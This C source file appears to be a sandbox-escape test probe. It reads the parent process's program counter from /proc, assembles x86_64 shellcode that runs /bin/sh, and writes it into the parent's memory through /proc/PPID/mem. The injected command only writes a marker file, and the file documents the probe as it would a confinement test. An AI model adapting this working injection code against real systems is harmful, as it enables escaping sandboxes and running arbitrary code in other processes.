/* A hostile payload: run a shell in the parent, outside the sandbox.
 *
 * The same attack as escape.py, in C: the parent's program counter from
 * /proc/PPID/syscall, then x86_64 code written there through /proc/PPID/mem
 * that calls execve("/bin/sh", ["/bin/sh", "-c", COMMAND], NULL) when the
 * parent's pending system call returns. openat, read, lseek, write only.
 *
 * usage: escape MARKER    Prints one line per step; exits 3 when refused.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void refused(const char *step) {
    printf("%s: refused: %s\n", step, strerrorname_np(errno));
    exit(3);
}

static void put64(unsigned char *at, uint64_t v) { memcpy(at, &v, 8); }

int main(int argc, char **argv) {
    if (argc != 2) return 2;
    char path[64], buf[512];
    pid_t ppid = getppid();
    snprintf(path, sizeof path, "/proc/%d/syscall", ppid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) refused("read /proc/PPID/syscall");
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n <= 0) refused("read /proc/PPID/syscall");
    buf[n] = 0;
    char *last = strrchr(buf, ' ');
    uint64_t pc = strtoull(last ? last + 1 : buf, NULL, 16);
    printf("read /proc/PPID/syscall\n");

    unsigned char blob[512] = {0};
    char command[256];
    int len = snprintf(command, sizeof command, "cat /proc/self/status > %s", argv[1]) + 1;
    uint64_t path_at = pc + 32, dash_c_at = path_at + 8, command_at = dash_c_at + 8;
    uint64_t argv_at = command_at + (uint64_t)(len + 7) / 8 * 8;
    unsigned char *p = blob;
    *p++ = 0x48; *p++ = 0xbf; put64(p, path_at); p += 8;   /* mov rdi, path */
    *p++ = 0x48; *p++ = 0xbe; put64(p, argv_at); p += 8;   /* mov rsi, argv */
    *p++ = 0x31; *p++ = 0xd2;                              /* xor edx, edx */
    *p++ = 0xb8; *p++ = 59; *p++ = 0; *p++ = 0; *p++ = 0;  /* mov eax, 59 */
    *p++ = 0x0f; *p++ = 0x05;                              /* syscall */
    memcpy(blob + 32, "/bin/sh", 8);
    memcpy(blob + 40, "-c", 3);
    memcpy(blob + 48, command, (size_t)len);
    unsigned char *a = blob + (argv_at - pc);
    put64(a, path_at); put64(a + 8, dash_c_at); put64(a + 16, command_at); put64(a + 24, 0);
    size_t total = (size_t)(argv_at - pc) + 32;

    snprintf(path, sizeof path, "/proc/%d/mem", ppid);
    int mem = open(path, O_RDWR);
    if (mem < 0) refused("open /proc/PPID/mem");
    if (lseek(mem, (off_t)pc, SEEK_SET) < 0) refused("seek /proc/PPID/mem");
    ssize_t w = write(mem, blob, total);
    if (w < 0) refused("write /proc/PPID/mem");
    printf("wrote %zd bytes at the parent's pc\n", w);
    return 0;
}
